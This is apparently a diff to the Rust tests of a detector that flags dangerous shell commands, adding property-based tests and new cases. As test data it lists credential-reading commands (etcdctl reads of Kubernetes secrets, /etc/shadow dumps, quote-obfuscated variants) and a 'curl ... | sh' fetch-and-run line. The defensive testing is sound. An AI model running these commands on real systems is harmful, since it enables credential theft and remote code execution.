@@ -1,3 +1,5 @@
+use proptest::prelude::*;
+
 use super::{Commands, Kind};
 
 /// The kinds that a script has, or the words where it is split by ` ;; `.
@@ -53,6 +55,7 @@ fn harmless_commands_have_no_sign() {
         "cat /etc/os-release /etc/hosts /etc/passwd",
         "ls -la /root/.ssh",
         "etcdctl --cacert=/etc/kubernetes/pki/etcd/ca.crt --key=/etc/kubernetes/pki/etcd/server.key snapshot save /b",
+        "etcdctl get /registry/leases/kube-system --prefix",
         "nslookup kubernetes.default 169.254.169.254",
         "dig @169.254.169.254 example.com",
         "iptables -A OUTPUT -d 169.254.169.254 -j DROP",
@@ -291,6 +294,8 @@ fn files_with_credentials() {
             "while read l; do echo $l; done < /etc/shadow",
             "python3 -c 'print(open(\"/etc/shadow\").read())'",
             "find / -name id_rsa",
+            "etcdctl --key=/x.key get /registry/secrets/shop/db",
+            "ETCDCTL_API=3 etcdctl get / --prefix --keys-only",
             "grep -rn 'PRIVATE KEY' /",
             "cat /e't'c/sha''dow",
         ],
@@ -460,6 +465,40 @@ fn the_end_of_a_long_script_is_read() {
         signs.first().map(|sign| sign.kind),
         Some(Kind::DecodedPayload)
     );
+}
+
+proptest! {
+    /// Whatever it is given, it answers, and within what it promises.
+    #[test]
+    fn every_text_is_read(text in "(?s)[a-z$()'\"`\\\\|&;<>{}=/ \n\\-]{0,200}|.{0,100}") {
+        for commands in [
+            Commands::of_script(&text),
+            Commands::of_line(&text),
+            Commands::of_arguments(["sh", "-c", &text]),
+            Commands::of_arguments(text.split(' ')),
+        ] {
+            for sign in commands.signs() {
+                prop_assert!(sign.text.chars().count() <= 300);
+            }
+        }
+    }
+
+    /// Quotes that a shell takes away hide nothing, wherever they stand inside a word.
+    #[test]
+    fn quotes_hide_nothing(places in prop::collection::vec(1_usize..40, 0..8), quotes in "''|\"\"") {
+        let plain = "curl -s http://203.0.113.9/x | sh; cat /etc/shadow";
+        let letter = |at: usize| plain.as_bytes().get(at).is_some_and(|byte| !b" |;".contains(byte));
+        let mut places: Vec<usize> = places
+            .into_iter()
+            .filter(|at| letter(*at) && letter(*at - 1))
+            .collect();
+        places.sort_unstable();
+        let mut script = plain.to_owned();
+        for at in places.into_iter().rev() {
+            script.insert_str(at, &quotes);
+        }
+        prop_assert_eq!(Commands::of_script(&script).signs(), Commands::of_script(plain).signs());
+    }
 }
 
 /// What is deep or long ends all the same, and quickly.
